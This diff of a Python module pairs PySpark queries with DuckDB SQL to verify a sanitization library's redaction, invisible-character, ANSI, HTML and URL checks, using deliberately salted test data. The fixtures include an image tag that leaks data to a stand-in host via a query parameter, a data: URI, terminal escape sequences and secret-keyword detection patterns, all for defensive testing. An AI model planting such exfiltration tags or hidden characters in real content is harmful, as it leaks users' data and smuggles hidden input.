@@ -1,7 +1,382 @@
-"""Queries of the library's operators, and the DuckDB SQL that checks them."""
+"""Queries of the library's operators over the driver's tables, and the DuckDB SQL that checks them.
+
+The tables hold few of the things that the operators look for, so most queries
+put them in first, by the same rule in both languages.
+"""
 
 from __future__ import annotations
 
+from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import functions as F
+
+from .functions import ansi, gates, invisible, secrets
+from .functions.characters import BLANK_RANGES, FORMAT_RANGES, INTRODUCER_RANGES, INVISIBLE, SELECTOR_RANGES, regex_class
+from .operators import layer1, markup, redact, relational, texts
+from .plans import sanitize
+
+FLAGSHIP = "redact_fields_by_lang"
 QUERIES: dict = {}
 SQL: dict[str, str] = {}
-FLAGSHIP = "redact_fields_by_lang"
+
+ZWSP, ESC, BEL = "\u200b", "\x1b", "\x07"
+
+
+def query(sql: str | None = None):
+    def add(f):
+        QUERIES[f.__name__] = f
+        if sql is not None:
+            SQL[f.__name__] = sql
+        return f
+
+    return add
+
+
+def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
+    return spark.read.parquet(f"{sf_dir}/{name}.parquet")
+
+
+# ---- things put into the tables: the Spark and the SQL spelling ----
+
+
+def salted(docs: DataFrame) -> DataFrame:
+    t, i = F.col("text"), F.col("doc_id")
+    far = 2_000_000_000
+    t = F.when(i % 7 == 0, F.concat(F.substring(t, 1, 20), F.lit(ZWSP), F.substring(t, 21, far))).otherwise(t)
+    t = F.when(i % 11 == 0, F.concat(t, F.repeat(F.lit(ZWSP), 12))).otherwise(t)
+    t = F.when(i % 5 == 0, F.concat(F.lit(ESC + "[31m"), F.substring(t, 1, 10), F.lit(ESC + "[0m"), F.substring(t, 11, far))).otherwise(t)
+    t = F.when(i % 13 == 0, F.concat(F.substring(t, 1, 5), F.lit(ESC + "]0;title" + BEL), F.substring(t, 6, far))).otherwise(t)
+    return docs.withColumn("text", F.when(i % 17 == 0, F.concat(F.lit("a" + ESC + ZWSP + "[32mb\u2800\ufe0f"), t)).otherwise(t))
+
+
+_SALTED = """(SELECT doc_id, lang, source, CASE WHEN doc_id % 17 = 0 THEN concat('a', chr(27), chr(8203), '[32mb', chr(10240), chr(65039), t4) ELSE t4 END AS text FROM (
+ SELECT *, CASE WHEN doc_id % 13 = 0 THEN concat(substr(t3,1,5), chr(27), ']0;title', chr(7), substr(t3,6)) ELSE t3 END AS t4 FROM (
+ SELECT *, CASE WHEN doc_id % 5 = 0 THEN concat(chr(27), '[31m', substr(t2,1,10), chr(27), '[0m', substr(t2,11)) ELSE t2 END AS t3 FROM (
+ SELECT *, CASE WHEN doc_id % 11 = 0 THEN concat(t1, repeat(chr(8203),12)) ELSE t1 END AS t2 FROM (
+ SELECT *, CASE WHEN doc_id % 7 = 0 THEN concat(substr(text,1,20), chr(8203), substr(text,21)) ELSE text END AS t1 FROM documents)))))"""
+
+
+def _sql_class(*groups) -> str:
+    return regex_class(*groups)
+
+
+_INV = _sql_class(FORMAT_RANGES, SELECTOR_RANGES, BLANK_RANGES)
+_INTRO = _sql_class(INTRODUCER_RANGES)
+_SEQ = ansi._pattern("")
+_FIELD = secrets.PORTABLE_FIELD.replace("'", "''")
+
+
+def _strip_sql(x: str) -> str:
+    for _ in range(2):
+        for _ in range(ansi.PASSES):
+            x = f"regexp_replace({x}, '{_SEQ}', '', 'g')"
+        x = f"regexp_replace({x}, '{_INV}', '', 'g')"
+    return f"regexp_replace({x}, '{_INTRO}', '', 'g')"
+
+
+# ---- redaction ----
+
+
+@query(f"""SELECT lang, count(*) FILTER (WHERE h > 0) AS docs_hit, CAST(coalesce(sum(h), 0) AS BIGINT) AS n_hits, CAST(coalesce(sum(length(text) - length(v) + 10 * h), 0) AS BIGINT) AS chars_removed
+FROM (SELECT lang, text, len(regexp_extract_all(text, '{_FIELD}')) AS h, regexp_replace(text, '{_FIELD}', '\\1[REDACTED]', 'g') AS v FROM documents WHERE regexp_matches(text, '(?i)token|pass|secret|key|pwd|credential|authorization|bearer|webhook')) GROUP BY lang""")
+def redact_fields_by_lang(spark, sf_dir):
+    docs = table(spark, sf_dir, "documents").select("lang", "text")
+    hinted = docs.where(F.col("text").rlike("(?i)token|pass|secret|key|pwd|credential|authorization|bearer|webhook"))
+    hits = hinted.withColumns({"h": secrets.count_fields(F.col("text")), "v": secrets.redact_fields(F.col("text"))})
+    removed = F.length("text") - F.length("v") + F.length(F.lit("[REDACTED]")) * F.col("h")
+    return hits.groupBy("lang").agg(F.count_if(F.col("h") > 0).alias("docs_hit"), F.sum("h").cast("long").alias("n_hits"), F.sum(removed).cast("long").alias("chars_removed"))
+
+
+@query(f"""SELECT doc_id, sha256(regexp_replace(text, '{_FIELD}', '\\1[REDACTED]', 'g')) AS view_sha256, CAST(len(regexp_extract_all(text, '{_FIELD}')) AS INTEGER) AS hits FROM documents WHERE regexp_matches(text, '{_FIELD}')""")
+def redact_fields_view(spark, sf_dir):
+    docs = table(spark, sf_dir, "documents").where(F.col("text").rlike(secrets.PORTABLE_FIELD))
+    return docs.select("doc_id", F.sha2(secrets.redact_fields(F.col("text")), 256).alias("view_sha256"), secrets.count_fields(F.col("text")).alias("hits"))
+
+
+@query("""SELECT doc_id, len(regexp_extract_all(text, 'token = "[0-9a-f]{40}"')) AS hits, sha256(regexp_replace(text, '(token = ")[0-9a-f]{40}(")', '\\1[REDACTED]\\2', 'g')) AS view_sha256
+FROM documents WHERE regexp_matches(text, 'token = "[0-9a-f]{40}"')""")
+def redact_exact(spark, sf_dir):
+    out = redact.redact(table(spark, sf_dir, "documents").select("doc_id", "text"))
+    hits = out.where(F.exists("l4.found", lambda f: f == secrets.FIELD_TYPE))
+    return hits.select("doc_id", F.size("l4.pairs").cast("long").alias("hits"), F.sha2("l4.view", 256).alias("view_sha256"))
+
+
+@query("SELECT count(*) AS n, count(*) AS n_same FROM documents")
+def redact_roundtrip(spark, sf_dir):
+    out = redact.redact(table(spark, sf_dir, "documents").select("doc_id", "text"))
+    out = redact.unredact(out.select("text", F.col("l4.view").alias("view"), F.col("l4.pairs").alias("pairs")), "view", "pairs", "again")
+    return out.agg(F.count("*").alias("n"), F.count_if(F.col("again") == F.col("text")).alias("n_same"))
+
+
+@query("""SELECT page_id, len(regexp_extract_all(html, 'token = &quot;[0-9a-f]{40}&quot;')) AS hits FROM pages WHERE regexp_matches(html, 'token = &quot;[0-9a-f]{40}&quot;')""")
+def page_secret_fields(spark, sf_dir):
+    pages = table(spark, sf_dir, "pages").where(F.col("html").contains("token = &quot;"))
+    hits = F.regexp_count("html", F.lit("token = &quot;[0-9a-f]{40}&quot;"))
+    return pages.select("page_id", hits.cast("long").alias("hits")).where("hits > 0")
+
+
+@query("""SELECT DISTINCT doc_id, left(trim(regexp_replace(line, '(token = ")[0-9a-f]{40}(")', '\\1********\\2', 'g')), 88) AS preview FROM (SELECT doc_id, unnest(string_split(text, chr(10))) AS line FROM documents)
+WHERE regexp_matches(line, 'token = "[0-9a-f]{40}"') AND contains(left(trim(regexp_replace(line, '(token = ")[0-9a-f]{40}(")', '\\1********\\2', 'g')), 88), '')""")
+def secret_previews(spark, sf_dir):
+    return redact.previews(table(spark, sf_dir, "documents").select("doc_id", "text"))
+
+
+@query(f"""SELECT doc_id, line_no - 1 AS line_no, CAST(len(regexp_extract_all(line, '{_FIELD}')) AS INTEGER) AS hits FROM (SELECT doc_id, unnest(string_split(text, chr(10))) AS line, generate_subscripts(string_split(text, chr(10)), 1) AS line_no FROM documents) WHERE regexp_matches(line, '{_FIELD}')""")
+def line_dedup_scan(spark, sf_dir):
+    return redact.scan_distinct_lines(table(spark, sf_dir, "documents").select("doc_id", "text")).select("doc_id", F.col("line_no").cast("long").alias("line_no"), "hits")
+
+
+# ---- markup ----
+
+
+@query("""SELECT page_id, regexp_extract(html, '(<!--[^>]*-->)', 1) AS original, concat('[HTML comment removed #', substr(sha256(regexp_extract(html, '(<!--[^>]*-->)', 1)), 1, 12), ']') AS placeholder,
+sha256(replace(html, regexp_extract(html, '(<!--[^>]*-->)', 1), concat('[HTML comment removed #', substr(sha256(regexp_extract(html, '(<!--[^>]*-->)', 1)), 1, 12), ']'))) AS view_sha256 FROM pages WHERE regexp_matches(html, '<!--[^>]*-->')""")
+def comment_splice(spark, sf_dir):
+    out = markup.splice_comments(table(spark, sf_dir, "pages").select("page_id", "html"), "html")
+    return out.select("page_id", F.explode("pairs").alias("p"), F.sha2("view", 256).alias("view_sha256")).select("page_id", "p.original", "p.placeholder", "view_sha256")
+
+
+@query("SELECT count(*) AS n, count(*) AS n_same FROM pages")
+def comment_roundtrip(spark, sf_dir):
+    out = markup.splice_comments(table(spark, sf_dir, "pages").select("page_id", "html"), "html")
+    again = redact.unredact(out, "view", "pairs", "again")
+    return again.agg(F.count("*").alias("n"), F.count_if(F.col("again") == F.col("html")).alias("n_same"))
+
+
+_HIDE = "replace(html, '<div class=\"ad\">', '<div class=\"ad\" style=\"display:none\">')"
+
+
+@query(f"""SELECT page_id, CAST(1 AS INTEGER) AS comments, CAST(CASE WHEN page_id % 4 = 0 THEN len(regexp_extract_all(html, '<div class="ad">')) ELSE 0 END AS INTEGER) AS hidden,
+sha256(CASE WHEN page_id % 4 = 0 THEN replace(v, regexp_extract(v, '(?s)(<div class="ad" style="display:none">.*?</div>)', 1), concat('[hidden HTML removed #', substr(sha256(regexp_extract(v, '(?s)(<div class="ad" style="display:none">.*?</div>)', 1)), 1, 12), ']')) ELSE v END) AS view_sha256
+FROM (SELECT page_id, html, CASE WHEN page_id % 4 = 0 THEN {_HIDE.replace("html", "w")} ELSE w END AS v FROM (SELECT page_id, html, replace(html, regexp_extract(html, '(<!--[^>]*-->)', 1), concat('[HTML comment removed #', substr(sha256(regexp_extract(html, '(<!--[^>]*-->)', 1)), 1, 12), ']')) AS w FROM pages))""")
+def hidden_splice_salted(spark, sf_dir):
+    pages = table(spark, sf_dir, "pages").select("page_id", F.when(F.col("page_id") % 4 == 0, F.expr(_HIDE)).otherwise(F.col("html")).alias("text"))
+    return markup.sanitize_html(pages).select("page_id", "l2.comments", "l2.hidden", F.sha2("l2.cleaned", 256).alias("view_sha256"))
+
+
+@query("""SELECT page_id, tag, count(*) AS n FROM (SELECT page_id, unnest(regexp_extract_all(lower(html), '<(script|style|object|embed|iframe|svg|math)(?:[\\s/>])', 1)) AS tag FROM pages) GROUP BY ALL""")
+def reported_tags(spark, sf_dir):
+    return markup.tag_counts(table(spark, sf_dir, "pages"), "html", "page_id")
+
+
+@query("""SELECT page_id, 'script' AS tag, CAST(1 AS INTEGER) AS n FROM pages UNION ALL SELECT page_id, 'style', 1 FROM pages""")
+def reported_tags_exact(spark, sf_dir):
+    out = markup.sanitize_html(table(spark, sf_dir, "pages").select("page_id", F.col("html").alias("text")))
+    return out.select("page_id", F.explode("l2.tags").alias("tag", "n"))
+
+
+@query("""SELECT kind, count(*) FILTER (WHERE t) AS tags, count(*) FILTER (WHERE l) AS links, count(*) FILTER (WHERE u) AS urls, count(*) FILTER (WHERE t OR l) AS markup, count(*) FILTER (WHERE u OR t OR l) AS url_scan, count(*) FILTER (WHERE n) AS non_ascii FROM (
+SELECT kind, regexp_matches(x, '<[a-zA-Z/!?][^<>]*>') AS t, regexp_matches(x, '(?m)\\]\\(|!\\[|^[ \\t]*\\[[^\\[\\]\\n]+\\]:\\s') AS l, regexp_matches(x, '(?i)https?://') AS u, octet_length(encode(x)) <> length(x) AS n
+FROM (SELECT 'page' AS kind, html AS x FROM pages UNION ALL SELECT 'document', text FROM documents)) GROUP BY kind""")
+def html_gate_matrix(spark, sf_dir):
+    both = table(spark, sf_dir, "pages").select(F.lit("page").alias("kind"), F.col("html").alias("x")).unionByName(table(spark, sf_dir, "documents").select(F.lit("document").alias("kind"), F.col("text").alias("x")))
+    x = F.col("x")
+    flags = both.select("kind", gates.has_tag(x).alias("t"), gates.has_link(x).alias("l"), gates.has_url(x).alias("u"), gates.non_ascii(x).alias("n"))
+    c = lambda e: F.count_if(F.expr(e))
+    return flags.groupBy("kind").agg(c("t").alias("tags"), c("l").alias("links"), c("u").alias("urls"), c("t or l").alias("markup"), c("u or t or l").alias("url_scan"), c("n").alias("non_ascii"))
+
+
+@query("""SELECT kind, count(*) AS n FROM (SELECT CASE WHEN regexp_matches(text, '(?i)secret|token|password|passwd|pwd|bearer|credential|authorization|-----BEGIN|(?:api|auth|service|account|db|database|priv|private|client|access)[_-]?key') THEN 'hint' ELSE 'none' END AS kind FROM documents) GROUP BY kind""")
+def secret_hint_gate(spark, sf_dir):
+    docs = table(spark, sf_dir, "documents").select("text")
+    return docs.groupBy(F.when(gates.secret_hint(F.col("text")), "hint").otherwise("none").alias("kind")).agg(F.count("*").alias("n"))
+
+
+# ---- layer 1 ----
+
+
+@query(f"SELECT doc_id, sha256({_strip_sql('text')}) AS cleaned_sha256, length({_strip_sql('text')}) AS n_chars FROM {_SALTED}")
+def l1_strip_salted(spark, sf_dir):
+    docs = salted(table(spark, sf_dir, "documents")).select("doc_id", layer1.native(F.col("text")).alias("c"))
+    return docs.select("doc_id", F.sha2("c", 256).alias("cleaned_sha256"), F.length("c").cast("long").alias("n_chars"))
+
+
+@query("""SELECT doc_id, sha256(CASE WHEN doc_id % 17 = 0 THEN concat('ab', text) ELSE text END) AS cleaned_sha256, concat_ws(',', CASE WHEN doc_id % 7 = 0 OR doc_id % 11 = 0 OR doc_id % 17 = 0 THEN 'cf-format' END, CASE WHEN doc_id % 17 = 0 THEN 'variation-selectors' END, CASE WHEN doc_id % 17 = 0 THEN 'blank-fillers' END, CASE WHEN doc_id % 17 = 0 OR doc_id % 5 = 0 OR doc_id % 13 = 0 THEN 'ansi' END) AS found FROM documents""")
+def l1_exact_salted(spark, sf_dir):
+    out = layer1.exact(salted(table(spark, sf_dir, "documents")).select("doc_id", "text"))
+    return out.select("doc_id", F.sha2("l1.cleaned", 256).alias("cleaned_sha256"), F.array_join("l1.found", ",").alias("found"))
+
+
+@query(f"""SELECT doc_id, concat_ws(',', CASE WHEN regexp_matches(t, '{_sql_class(FORMAT_RANGES)}') THEN 'cf-format' END, CASE WHEN regexp_matches(t, '{_sql_class(SELECTOR_RANGES)}') THEN 'variation-selectors' END, CASE WHEN regexp_matches(t, '{_sql_class(BLANK_RANGES)}') THEN 'blank-fillers' END, CASE WHEN regexp_matches(text, '{_INTRO}') THEN 'ansi' END) AS found
+FROM (SELECT doc_id, text, regexp_replace(text, '{_SEQ}', '', 'g') AS t FROM {_SALTED})""")
+def l1_found_salted(spark, sf_dir):
+    return salted(table(spark, sf_dir, "documents")).select("doc_id", F.array_join(layer1.native_found(F.col("text")), ",").alias("found"))
+
+
+@query(f"""SELECT kind, count(*) AS n FROM (SELECT CASE WHEN regexp_matches(t, '^(?:\\x1B\\x5B|\\x9B)[0-9;:]*m$') THEN 'sgr' WHEN regexp_matches(t, '^(?:\\x1B\\x5D|\\x9D)') THEN 'osc' WHEN length(t) > 1 THEN 'csi' ELSE 'orphan-introducer' END AS kind
+FROM (SELECT unnest(regexp_extract_all(text, '({_SEQ}|{_INTRO})', 1)) AS t FROM {_SALTED})) GROUP BY kind""")
+def ansi_tokens_salted(spark, sf_dir):
+    docs = salted(table(spark, sf_dir, "documents"))
+    return docs.select(F.explode(ansi.token_texts(F.col("text"))).alias("t")).groupBy(ansi.kind_of(F.col("t")).alias("kind")).agg(F.count("*").alias("n"))
+
+
+@query(f"""SELECT doc_id, ord, kind FROM (SELECT doc_id, unnest(l) AS t, generate_subscripts(l, 1) - 1 AS ord, CASE WHEN regexp_matches(unnest(l), '^(?:\\x1B\\x5B)[0-9;:]*m$') THEN 'sgr' WHEN starts_with(unnest(l), chr(27) || ']') THEN 'osc' ELSE 'orphan-introducer' END AS kind FROM (SELECT doc_id, regexp_extract_all(text, '({_SEQ}|{_INTRO})', 1) AS l FROM {_SALTED}))""")
+def ansi_token_rows(spark, sf_dir):
+    return texts.ansi_tokens(salted(table(spark, sf_dir, "documents")).select("doc_id", "text")).select("doc_id", F.col("ord").cast("long").alias("ord"), "kind")
+
+
+@query(f"""SELECT doc_id, CAST(length(run) AS BIGINT) AS n_chars, 1 + length(before) - length(replace(before, chr(10), '')) AS line FROM (SELECT doc_id, regexp_extract(text, '{_INV}{{10,}}') AS run, substr(text, 1, instr(text, regexp_extract(text, '{_INV}{{10,}}')) - 1) AS before FROM {_SALTED} WHERE regexp_matches(text, '{_INV}{{10,}}'))""")
+def long_runs_salted(spark, sf_dir):
+    docs = salted(table(spark, sf_dir, "documents")).where(invisible.has_long_run(F.col("text")))
+    run = F.element_at(invisible.long_runs(F.col("text")), 1)
+    found = docs.select("doc_id", "text", run.alias("run"))
+    line = 1 + F.regexp_count(F.expr("substring(text, 1, locate(run, text) - 1)"), F.lit("\n"))
+    return found.select("doc_id", F.length("run").cast("long").alias("n_chars"), line.cast("long").alias("line"))
+
+
+@query("""SELECT doc_id, 1 + length(text) - length(replace(text, chr(10), '')) AS line, CAST(12 AS INTEGER) AS char_count, 'zero-width-binary' AS method, '000000000000' AS decoded FROM documents WHERE doc_id % 11 = 0""")
+def instruction_scan(spark, sf_dir):
+    docs = table(spark, sf_dir, "documents").where("doc_id % 11 = 0").select("doc_id", F.concat("text", F.repeat(F.lit(ZWSP), 12)).alias("text"))
+    return texts.scan_instructions(docs).select("doc_id", F.col("line").cast("long").alias("line"), "char_count", "method", "decoded")
+
+
+@query("""SELECT conv_id, turn, CASE WHEN turn % 5 = 1 OR turn % 5 = 3 THEN 'block' WHEN turn % 5 = 2 THEN 'note' ELSE 'pass' END AS action FROM conversations WHERE length(text) > 0""")
+def prompt_verdict(spark, sf_dir):
+    t = F.col("text")
+    salt = F.col("turn") % 5
+    prompt = F.when(salt == 1, F.concat(t, F.repeat(F.lit(ZWSP), 12))).when(salt == 2, F.concat(F.lit(ESC + "[1m"), t)).when(salt == 3, F.concat(F.lit(ESC + "[2J"), t)).when(salt == 4, F.concat(t, F.lit(ZWSP))).otherwise(t)
+    rows = table(spark, sf_dir, "conversations").where("length(text) > 0").select("conv_id", "turn", prompt.alias("text"))
+    return texts.prompt_verdicts(rows).select("conv_id", "turn", F.col("verdict.action").alias("action"))
+
+
+# ---- URLs and look-alikes ----
+
+
+@query("""SELECT page_id, replace(replace(replace(replace(url, '&quot;', '"'), '&lt;', '<'), '&gt;', '>'), '&amp;', '&') AS url, count(*) AS n FROM (SELECT page_id, unnest(regexp_extract_all(html, '<a href="([^"]*)"', 1)) AS url FROM pages) WHERE trim(url) <> '' GROUP BY ALL""")
+def page_links(spark, sf_dir):
+    pages = table(spark, sf_dir, "pages").select("page_id", F.explode(markup.collect_urls(F.col("html"))).alias("u"))
+    return pages.where("u.context = 'a[href]'").groupBy("page_id", F.col("u.url").alias("url")).agg(F.count("*").alias("n"))
+
+
+@query("""SELECT page_id, true AS is_image, 'suspicious query parameter' AS reason, 'e.example' AS target FROM pages WHERE page_id % 6 = 0 UNION ALL SELECT page_id, true, 'active-content data: URI', '(inline data: URI)' FROM pages WHERE page_id % 9 = 0""")
+def exfil_params_salted(spark, sf_dir):
+    h = F.col("html")
+    h = F.when(F.col("page_id") % 6 == 0, F.concat(h, F.lit('<img src="https://e.example/p?d=' + "A1b2" * 12 + '">'))).otherwise(h)
+    h = F.when(F.col("page_id") % 9 == 0, F.concat(h, F.lit('<img src="data:text/html,x">'))).otherwise(h)
+    out = markup.report_urls(table(spark, sf_dir, "pages").select("page_id", h.alias("text")))
+    return out.select("page_id", F.explode("l3.threats").alias("t")).select("page_id", "t.is_image", "t.reason", "t.target")
+
+
+@query("""SELECT page_id, 'warning' AS severity, 'xn--pple-43d.example' AS ascii_host, 'apple.example' AS reads FROM pages WHERE page_id % 10 = 0""")
+def host_confusables_salted(spark, sf_dir):
+    text = F.when(F.col("page_id") % 10 == 0, F.lit("see https://\u0430pple.example/x and https://apple.example/")).otherwise(F.lit("see https://apple.example/"))
+    out = markup.report_urls(table(spark, sf_dir, "pages").select("page_id", text.alias("text")))
+    return out.select("page_id", F.explode("l3.hosts").alias("h")).select("page_id", "h.severity", "h.ascii_host", "h.reads")
+
+
+@query("""SELECT doc_id, replace(x, chr(1072), 'a') AS folded, len(x) - len(replace(x, chr(1072), '')) AS n FROM (SELECT doc_id, CASE WHEN doc_id % 3 = 0 THEN replace(concat('cat x', doc_id), 'a', chr(1072)) ELSE concat('cat x', doc_id) END AS x FROM documents)""")
+def fold_fields_salted(spark, sf_dir):
+    plain = F.concat(F.lit("cat x"), F.col("doc_id").cast("string"))
+    x = F.when(F.col("doc_id") % 3 == 0, F.replace(plain, F.lit("a"), F.lit("\u0430"))).otherwise(plain)
+    return texts.fold(table(spark, sf_dir, "documents").select("doc_id", x.alias("text"))).select("doc_id", "folded", F.size("folds").cast("long").alias("n"))
+
+
+@query("""SELECT style, hides, count(*) AS n FROM (SELECT CASE l_orderkey % 4 WHEN 0 THEN 'display:none' WHEN 1 THEN 'opacity:0.5' WHEN 2 THEN 'position:absolute;left:-9999px' ELSE 'color:red' END AS style, l_orderkey % 2 = 0 AS hides FROM lineitem) GROUP BY ALL""")
+def hidden_styles(spark, sf_dir):
+    k = F.col("l_orderkey") % 4
+    style = F.when(k == 0, "display:none").when(k == 1, "opacity:0.5").when(k == 2, "position:absolute;left:-9999px").otherwise("color:red")
+    return markup.hidden_styles(table(spark, sf_dir, "lineitem").select(style.alias("style"))).groupBy("style", "hides").agg(F.count("*").alias("n"))
+
+
+# ---- relational forms ----
+
+_SPANS = "SELECT l_orderkey AS k, CAST(l_linenumber * 10 + l_partkey % 7 AS BIGINT) AS start, CAST(l_linenumber * 10 + l_partkey % 7 + 3 + l_suppkey % 17 AS BIGINT) AS \"end\", CASE WHEN l_linenumber % 3 = 0 THEN 'hidden' ELSE 'comment' END AS kind FROM lineitem"
+
+
+def _spans(spark, sf_dir):
+    return table(spark, sf_dir, "lineitem").selectExpr("l_orderkey AS k", "CAST(l_linenumber * 10 + l_partkey % 7 AS BIGINT) AS start", "CAST(l_linenumber * 10 + l_partkey % 7 + 3 + l_suppkey % 17 AS BIGINT) AS end", "CASE WHEN l_linenumber % 3 = 0 THEN 'hidden' ELSE 'comment' END AS kind")
+
+
+def _merge_sql(test: str) -> str:
+    return f"""SELECT k, min(start) AS start, max("end") AS "end", CASE WHEN bool_or(kind = 'hidden') THEN 'hidden' ELSE min(kind) END AS kind FROM (SELECT *, sum(CASE WHEN reach IS NULL OR start {test} reach THEN 1 ELSE 0 END) OVER (PARTITION BY k ORDER BY start, "end") AS island
+FROM (SELECT *, max("end") OVER (PARTITION BY k ORDER BY start, "end" ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING) AS reach FROM ({_SPANS}))) GROUP BY k, island"""
+
+
+@query(_merge_sql(">="))
+def span_merge(spark, sf_dir):
+    return relational.merge_spans(_spans(spark, sf_dir), "k")
+
+
+@query(_merge_sql(">"))
+def span_merge_abutting(spark, sf_dir):
+    return relational.merge_spans(_spans(spark, sf_dir), "k", abutting=True)
+
+
+@query(f"""SELECT k, start, "end", kind FROM (SELECT *, max("end") OVER (PARTITION BY k ORDER BY start, "end" DESC ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING) AS reach FROM ({_SPANS})) WHERE reach IS NULL OR "end" > reach""")
+def span_outermost(spark, sf_dir):
+    return relational.outermost(_spans(spark, sf_dir), "k")
+
+
+@query("""SELECT o.o_orderkey AS k, CAST(o.o_custkey % 60 AS BIGINT) AS "at", CAST(coalesce(s.shift, 0) AS BIGINT) AS shift FROM orders o ASOF LEFT JOIN (SELECT l_orderkey AS k, CAST(l_linenumber * 10 AS BIGINT) AS e, sum(l_quantity) AS shift FROM lineitem GROUP BY ALL) s ON o.o_orderkey = s.k AND o.o_custkey % 60 >= s.e""")
+def asof_offset(spark, sf_dir):
+    left = table(spark, sf_dir, "orders").selectExpr("o_orderkey AS k", "CAST(o_custkey % 60 AS BIGINT) AS at")
+    right = table(spark, sf_dir, "lineitem").groupBy(F.col("l_orderkey").alias("k"), (F.col("l_linenumber") * 10).cast("long").alias("end")).agg(F.sum("l_quantity").alias("shift"))
+    return relational.as_of(left, right, "k")
+
+
+@query("""SELECT page_id, page_id % 8 = 0 AS denied FROM pages""")
+def store_restore(spark, sf_dir):
+    out = markup.splice_comments(table(spark, sf_dir, "pages").select("page_id", "html"), "html")
+    store = relational.span_store(out.where("page_id % 8 <> 0").select(F.explode("pairs").alias("p")).select("p.*"))
+    back = relational.restore_from_store(out.select("page_id", "html", F.col("view").alias("text")), store, "page_id")
+    return back.where("denied OR restored = html").select("page_id", "denied")
+
+
+@query("""SELECT kind, count(*) AS n FROM (SELECT CASE user_id % 4 WHEN 0 THEN 'covered' WHEN 1 THEN 'exempt' WHEN 2 THEN 'covered' ELSE 'undeclared' END AS kind FROM events) GROUP BY kind""")
+def tool_scopes(spark, sf_dir):
+    k = F.col("user_id") % 4
+    calls = table(spark, sf_dir, "events").select(F.when(k == 0, "Edit").when(k == 1, "Read").when(k == 2, "mcp__files__write").otherwise("Other").alias("tool"), F.when(k == 1, "limit").otherwise("content").alias("field"))
+    scopes = spark.createDataFrame([("Edit", "content", "covered"), ("Read", "limit", "exempt"), ("mcp__*", "content", "covered")], "tool string, field string, kind string")
+    return relational.scope_fields(calls, scopes).groupBy("kind").agg(F.count("*").alias("n"))
+
+
+@query("""SELECT event_id, props AS cleaned FROM events""")
+def structured_values(spark, sf_dir):
+    rows = table(spark, sf_dir, "events").select("event_id", F.struct(F.array(F.concat(F.lit(ZWSP), "props", F.lit(ESC + "[0m"))).alias("a"), F.create_map(F.lit("k"), F.col("props")).alias("m")).alias("v"))
+    return sanitize.sanitize_values(rows, "v").select("event_id", F.col("v.a")[0].alias("cleaned"))
+
+
+@query("""SELECT status, count(*) AS n FROM (SELECT CASE WHEN o_orderkey % 3 = 0 THEN 'scanned' WHEN o_orderkey % 3 = 1 THEN 'skipped' ELSE 'absent' END AS status FROM orders) GROUP BY status""")
+def scan_account(spark, sf_dir):
+    orders = table(spark, sf_dir, "orders").select("o_orderkey", F.concat(F.lit("/p/"), F.col("o_orderkey").cast("string")).alias("path"))
+    return relational.scan_account(orders, orders.where("o_orderkey % 3 = 0"), orders.where("o_orderkey % 3 = 1"))
+
+
+# ---- the corpus ----
+
+_FINDINGS = f"""(SELECT doc_id, lang, code FROM (SELECT doc_id, lang, unnest([CASE WHEN doc_id % 7 = 0 OR doc_id % 11 = 0 OR doc_id % 17 = 0 THEN 'cf-format' END, CASE WHEN doc_id % 17 = 0 THEN 'variation-selectors' END, CASE WHEN doc_id % 17 = 0 THEN 'blank-fillers' END, CASE WHEN doc_id % 17 = 0 OR doc_id % 5 = 0 OR doc_id % 13 = 0 THEN 'ansi' END]) AS code FROM documents) WHERE code IS NOT NULL)"""
+
+
+@query(f"SELECT lang, code, count(*) AS n_findings, count(DISTINCT doc_id) AS n_docs FROM {_FINDINGS} GROUP BY CUBE (lang, code)")
+def findings_cube(spark, sf_dir):
+    docs = salted(table(spark, sf_dir, "documents")).select("doc_id", "lang", "text")
+    found = sanitize.findings(sanitize.sanitize(docs), "doc_id").join(docs.select("doc_id", "lang"), "doc_id")
+    return relational.findings_cube(found, "lang", "code")
+
+
+@query(f"SELECT toxic, code, count(*) AS n FROM {_FINDINGS} f JOIN labels USING (doc_id) GROUP BY toxic, code")
+def findings_by_label(spark, sf_dir):
+    docs = salted(table(spark, sf_dir, "documents")).select("doc_id", "text")
+    found = sanitize.findings(sanitize.sanitize(docs, html=False, urls=False), "doc_id")
+    return found.join(table(spark, sf_dir, "labels"), "doc_id").groupBy("toxic", "code").agg(F.count("*").alias("n"))
+
+
+@query(f"SELECT doc_id, CAST(length(text) - length(regexp_replace(text, '{_INV}', '', 'g')) AS INTEGER) AS n FROM {_SALTED} ORDER BY n DESC, doc_id LIMIT 20")
+def risky_topk(spark, sf_dir):
+    docs = salted(table(spark, sf_dir, "documents")).select("doc_id", invisible.count(F.col("text")).alias("n"))
+    return docs.orderBy(F.desc("n"), "doc_id").limit(20)
+
+
+@query("""SELECT doc_id, sha256(replace(replace(text, 'the ', ''), 'and ', '')) AS text_sha256 FROM documents WHERE NOT contains(text, 'thand') AND NOT contains(text, 'ththe') AND NOT contains(text, 'anand') AND NOT contains(text, 'athe') AND NOT contains(text, 'anthe')""")
+def injected_filter(spark, sf_dir):
+    docs = table(spark, sf_dir, "documents").select("doc_id", "text").where("NOT contains(text, 'thand') AND NOT contains(text, 'ththe') AND NOT contains(text, 'anand') AND NOT contains(text, 'athe') AND NOT contains(text, 'anthe')")
+    return texts.delete_spans(docs.withColumn("needles", F.array(F.lit("the "), F.lit("and ")))).select("doc_id", F.sha2("cleaned", 256).alias("text_sha256"))
+
+
+@query("""SELECT user_id, count(*) AS n_events, CAST(min(event_id) AS BIGINT) AS first_event FROM events GROUP BY user_id""")
+def notices_once(spark, sf_dir):
+    from .streaming import notices
+
+    return notices.run_once(spark, sf_dir)
+
+
+assert INVISIBLE == _INV
